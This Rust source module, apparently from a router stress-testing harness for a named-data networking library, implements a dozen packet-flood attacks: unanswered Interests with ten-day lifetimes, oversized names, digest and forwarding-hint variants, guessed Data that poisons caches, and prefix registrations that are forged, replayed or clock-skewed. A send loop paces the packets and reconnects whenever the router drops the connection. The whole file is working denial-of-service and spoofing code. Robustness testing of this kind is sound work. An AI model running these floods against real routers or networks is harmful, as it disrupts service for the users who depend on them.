//! Packet floods: each attack is a function from a number to a packet.

use std::fs;
use std::path::Path;

use namehop_wire::Name;
use namehop_wire::builder::InterestSignatureOptions;
use namehop_wire::certificate::{Certificate, load_certificate};
use namehop_wire::security::{DigestSigner, KeySigner, KeyType, PrivateKey, load_private_key};
use namehop_wire::tlv::types;

use super::options::{Failure, Options};
use super::packets::{Extras, data, first_fragment, interest, numbered, registration, registration_at};
use super::senders::{Batch, Sender};

/// The longest InterestLifetime that routers allow.
const TEN_DAYS_MS: u64 = 864_000_000;
/// Number of name depths at which Interests with digests are sent.
const DIGEST_DEPTHS: u64 = 29;
/// Number of forwarding hints per name.
const HINTS: u64 = 8;
/// Number of signed commands made in advance; they are then repeated.
const COMMANDS: usize = 4096;

type Maker = Box<dyn FnMut(u64) -> Vec<u8>>;

fn name(text: &str) -> Result<Name, Failure> {
    Ok(text.parse()?)
}

fn with_lifetime(lifetime_ms: u64) -> Extras {
    Extras { lifetime_ms: Some(lifetime_ms), hint: None }
}

/// Interests that reach a silent application, which never answers.
fn unanswered() -> Result<Maker, Failure> {
    let (prefix, extras) = (name("/silent/u")?, with_lifetime(60_000));
    Ok(Box::new(move |number| interest(numbered(&prefix, number).value(), &extras)))
}

/// Interests with lifetimes of ten days; every second one is answered.
fn endless_lifetimes() -> Result<Maker, Failure> {
    let (prefixes, extras) = ([name("/open/endless")?, name("/silent/endless")?], with_lifetime(TEN_DAYS_MS));
    Ok(Box::new(move |number| interest(numbered(&prefixes[(number % 2) as usize], number).value(), &extras)))
}

/// Names at and above the limits of length and depth.
fn long_names() -> Result<Maker, Failure> {
    let mut names = Vec::new();
    for (components, bytes) in [(1, 1900), (60, 4), (8, 230), (16, 100), (1, 8000), (100, 10)] {
        let component = vec![b'x'; bytes];
        names.push((0..components).fold(name("/silent/long")?, |name, _| name.append_generic(&component)));
    }
    Ok(Box::new(move |number| {
        let prefix = &names[(number % names.len() as u64) as usize];
        interest(numbered(prefix, number).value(), &with_lifetime(4000))
    }))
}

/// Names that the victim will request, each with all hints that the router can follow.
fn hint_variants(victim: Name) -> Result<Maker, Failure> {
    let hint = name("/silent/hint")?;
    Ok(Box::new(move |number| {
        let hint = Some(numbered(&hint, number % HINTS));
        interest(numbered(&victim, number / HINTS % 20_000).value(), &Extras { lifetime_ms: Some(TEN_DAYS_MS), hint })
    }))
}

/// Unanswered Interests with an implicit digest at every depth.
fn digests() -> Result<Maker, Failure> {
    Ok(Box::new(move |number| {
        let depth = 1 + number % DIGEST_DEPTHS;
        let mut name = Name::default().append_generic("silent");
        for _ in 1..depth {
            name = name.append_generic("d");
        }
        let mut value = name.value().to_vec();
        value.extend([types::IMPLICIT_SHA256_DIGEST_COMPONENT as u8, 32]);
        value.extend([number as u8; 32]);
        interest(&value, &with_lifetime(TEN_DAYS_MS))
    }))
}

/// Data with names that the victim will request, sent before the producer answers.
fn guessed_data(victim: Name) -> Maker {
    Box::new(move |number| data(numbered(&victim, number % 20_000).value(), b"evil"))
}

/// Registrations that claim the operator's signature.
fn signed_registrations(certificate: &str, face: Option<u64>) -> Result<Maker, Failure> {
    let operator: Name = fs::read_to_string(certificate)?.trim().parse()?;
    let signer = KeySigner::new(PrivateKey::generate(KeyType::Ecdsa)?, operator);
    let commands = (0..COMMANDS).map(|number| {
        let prefix = Name::default().append_generic("attacker").append_generic(format!("signed{number}"));
        registration("localhop", &prefix, face, &signer)
    });
    let commands = commands.collect::<Result<Vec<_>, _>>()?;
    Ok(Box::new(move |number| commands[number as usize % COMMANDS].clone()))
}

/// Returns a signer with a key that the router trusts, and its identity.
fn trusted_key(options: &Options) -> Result<(KeySigner, Name), Failure> {
    let certificate = load_certificate(Path::new(options.text("certificate")?))?;
    let certificate = Certificate::decode(&certificate)?;
    let key = load_private_key(Path::new(options.text("key")?))?;
    let signer = KeySigner::new(key, certificate.name().without_last(2).to_owned());
    Ok((signer, certificate.name().without_last(4).to_owned()))
}

/// Repeated registrations from before the router's start, and from a clock that is days ahead.
fn replayed_commands(options: &Options) -> Result<Maker, Failure> {
    let (signer, identity) = trusted_key(options)?;
    let commands = (0..COMMANDS as i64).map(|number| {
        let prefix = identity.clone().append_generic("attacker").append_generic(format!("replayed{number}"));
        let mut times = InterestSignatureOptions::now()?;
        let shift_ms = if number % 2 == 0 { -60_000 + number } else { 20 * 86_400_000 + number };
        times.time_ms = times.time_ms.and_then(|now_ms| now_ms.checked_add_signed(shift_ms));
        registration_at("localhop", &prefix, None, &signer, &times)
    });
    let commands = commands.collect::<Result<Vec<_>, Failure>>()?;
    Ok(Box::new(move |number| commands[number as usize % COMMANDS].clone()))
}

/// Registrations of ever more prefixes, signed with a key that the router trusts.
fn many_registrations(options: &Options) -> Result<Maker, Failure> {
    let (signer, identity) = trusted_key(options)?;
    Ok(Box::new(move |number| {
        let prefix = identity.clone().append_generic(format!("many{number}"));
        // An unsigned command would count as sent and refused.
        registration("localhop", &prefix, None, &signer).unwrap_or_default()
    }))
}

/// Commands that need no key, in both zones.
fn unauthorized_commands(face: Option<u64>) -> Result<Maker, Failure> {
    let prefix = name("/attacker/command")?;
    let zones = [("localhost", face), ("localhop", face), ("localhop", None)];
    let commands = zones.map(|(zone, face)| registration(zone, &prefix, face, &DigestSigner));
    let commands = commands.into_iter().collect::<Result<Vec<_>, _>>()?;
    Ok(Box::new(move |number| commands[number as usize % commands.len()].clone()))
}

/// Runs the attack with this name. `via` selects the transport, `rate` the packets per second.
pub fn run(attack: &str, options: &Options) -> Result<String, Failure> {
    let victim = |key: &str| name(options.text(key)?);
    let mut make: Maker = match attack {
        "unanswered" => unanswered()?,
        "endless-lifetimes" => endless_lifetimes()?,
        "long-names" => long_names()?,
        "hint-variants" => hint_variants(victim("victim")?)?,
        "digests" => digests()?,
        "guessed-data" => guessed_data(victim("victim")?),
        "first-fragments" => Box::new(|number| first_fragment(number.wrapping_mul(7919), &[6; 1000])),
        "spoofed-sources" => {
            let prefix = name("/nowhere")?;
            Box::new(move |number| interest(numbered(&prefix, number).value(), &Extras::default()))
        }
        "signed-registrations" => signed_registrations(options.text("locator")?, Some(options.get("face")?))?,
        "many-registrations" => many_registrations(options)?,
        "replayed-commands" => replayed_commands(options)?,
        "stranger-commands" => unauthorized_commands(Some(options.get("face")?))?,
        other => return Err(format!("unknown attack '{other}'").into()),
    };
    let mut sender = Sender::open(options)?;
    let mut pace = options.pace()?;
    let (mut batch, mut number, mut sent, mut closed) = (Batch::default(), 0_u64, 0, 0);
    while let Some(due) = pace.next() {
        for _ in 0..due {
            batch.push(&make(number));
            number += 1;
        }
        match sender.send(&mut batch) {
            Ok(count) => sent += count,
            Err(_) => {
                // The router may close the connection. The attacker reconnects.
                closed += 1;
                batch = Batch::default();
                std::thread::sleep(std::time::Duration::from_millis(50).min(pace.left()));
                if let Ok(again) = Sender::open(options) {
                    sender = again;
                }
            }
        }
    }
    sender.finish();
    Ok(format!("{{\"packets\": {sent}, \"closed\": {closed}}}"))
}
